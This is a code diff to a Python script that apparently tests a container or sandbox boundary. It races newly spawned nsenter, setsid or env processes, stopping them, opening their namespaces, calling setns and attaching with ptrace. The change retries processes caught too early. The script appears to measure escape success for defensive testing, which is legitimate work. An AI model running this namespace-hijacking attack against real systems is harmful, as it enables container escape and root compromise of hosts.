@@ -61,24 +61,31 @@ def try_setns(path: str) -> None:
         os.close(fd)
 
 
-def probe(pid: int) -> None:
-    stats["pids"] += 1
+def probe(pid: int, first: bool = True) -> bool:
+    """Everything against one process; True once its namespaces could be opened (it runs as
+    machine root by then). A process caught early is probed again on later rounds."""
+    early = False
+    if first:
+        stats["pids"] += 1
     try:
-        if open(f"/proc/{pid}/comm").read().strip() in ("nsenter", "setsid", "env"):
-            stats["early"] += 1  # caught before it ran the command: the window a real attack aims at
+        early = open(f"/proc/{pid}/comm").read().strip() in ("nsenter", "setsid", "env")
     except OSError:
         pass
-    if mode == "stop":
+    if first and early:
+        stats["early"] += 1  # caught before it ran the command: the window a real attack aims at
+    if first and mode == "stop":
         try:
             os.kill(pid, signal.SIGSTOP)
             stats["stopped"] += 1
         except OSError:
             pass
+    opened = False
     for kind in ("mnt", "net", "user", "pid"):
         p = f"/proc/{pid}/ns/{kind}"
         try:
             os.close(os.open(p, os.O_RDONLY))
             stats["ns_opened"] += 1
+            opened = True
         except OSError:
             continue
         try_setns(p)
@@ -99,10 +106,12 @@ def probe(pid: int) -> None:
             except OSError:
                 pass
         libc.ptrace(PTRACE_DETACH, pid, 0, 0)
+    return opened
 
 
 def main() -> None:
     seen = {os.getpid(), 1}
+    again: dict[int, int] = {}  # pid -> rounds left to probe it again (it was caught too early)
     end = time.monotonic() + seconds
     last = 0.0
     while time.monotonic() < end:
@@ -116,9 +125,20 @@ def main() -> None:
             if pid not in seen and os.path.exists(f"/proc/{pid}"):
                 seen.add(pid)
                 try:
-                    probe(pid)
+                    if not probe(pid):
+                        again[pid] = 200
                 except Exception as e:  # keep attacking
                     stats["errors"].append(repr(e))
+        for pid, left in list(again.items()):
+            try:
+                done = not os.path.exists(f"/proc/{pid}") or probe(pid, first=False)
+            except Exception as e:
+                stats["errors"].append(repr(e))
+                done = True
+            if done or left <= 1:
+                del again[pid]
+            else:
+                again[pid] = left - 1
         now = time.monotonic()
         if now - last > 0.5:
             last = now
